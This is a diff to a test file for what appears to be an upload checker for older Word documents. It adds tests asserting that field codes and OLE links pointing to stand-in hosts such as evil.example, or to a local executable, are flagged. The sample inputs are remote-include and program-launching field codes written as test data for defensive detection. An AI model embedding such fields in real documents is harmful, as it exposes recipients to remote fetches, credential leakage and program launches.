@@ -5,7 +5,7 @@ import { startApp, type TestApp } from '../../../test/app.ts';
 import { answers, compound, packed, record, sendsDocuments, types } from '../../../test/factories/documents.ts';
 import { aPerson } from '../../../test/factories/people.ts';
 
-const { taken, macros, holds, reaches, broken } = answers;
+const { taken, macros, holds, reaches, broken, starts } = answers;
 const u16 = (...of: number[]) => Buffer.from(Uint16Array.from(of).buffer);
 const u32 = (...of: number[]) => Buffer.from(Uint32Array.from(of).buffer);
 const wide = (words: string) => Buffer.from(words, 'utf16le');
@@ -153,6 +153,20 @@ describe('older documents', () => {
       ).toMatchObject(taken);
   });
 
+  it('hold no field that takes something from another machine or leads to a program, in letters of one byte or two', async () => {
+    for (const as of [wide, (said: string) => Buffer.from(said, 'latin1')])
+      for (const [instruction, answer] of [
+        [' INCLUDETEXT "\\\\\\\\evil\\\\a.doc" ', reaches],
+        [' INCLUDEPICTURE "\\\\\\\\evil\\\\a.png" ', reaches],
+        [' LINK Word.Document "http://evil.example/a" ', reaches],
+        [' HYPERLINK "C:\\\\a.exe" ', starts],
+        [' HYPERLINK "https://example.org/" ', taken],
+      ] as const)
+        expect(await send('通知.doc', words(as(`通知\x13${instruction}\x14一\x15`))), instruction).toMatchObject(
+          answer,
+        );
+  });
+
   it('hold no other file, and no object that lies on another machine', async () => {
     const sheet = await packed({ '[Content_Types].xml': types(), 'xl/workbook.xml': '<w/>' });
     for (const name of ['Package', 'package', '\u0001Ole10Native', '\u0001OLE10NATIVE'])
@@ -167,6 +181,7 @@ describe('older documents', () => {
     // A script, and what is made anew of a class: found by their own classes, written as they lie in a file.
     const classes = ['d30b2906aa48d2118432006008c3fbfc', 'c6afabec197fd211978e0000f8757e2a'];
     const found = classes.map((hex) => Buffer.from(`0100000201000000000000000000000068000000${hex}`, 'hex'));
+    found.push(...['//evil.example/a.doc', '\\/evil.example/a'].flatMap((l) => [wide(l), Buffer.from(l)]));
     for (const link of [address, folder, Buffer.concat([address, Buffer.alloc(5000)]), ...found])
       expect(await send('通知.doc', words(wide('通知'), '', { '\u0001Ole': link }))).toMatchObject(reaches);
     const plain = Buffer.from('0100000200000000000000000000000000000000', 'hex');
